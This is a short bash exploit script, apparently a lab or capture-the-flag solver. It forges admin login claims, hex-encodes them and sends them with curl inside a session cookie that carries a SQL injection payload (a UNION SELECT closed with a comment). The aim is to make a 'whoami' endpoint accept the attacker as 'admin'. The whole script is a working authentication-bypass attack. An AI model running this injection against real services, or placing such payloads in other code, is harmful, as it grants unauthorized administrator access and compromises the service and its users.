#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

claims='{"iss":"https://issuer.example","sub":"admin","aud":"api.example","exp":4102444800}'
curl -s -b "session=' UNION SELECT x'$(printf '%s' "$claims" | hex)' --" "$(at session-sql whoami)"
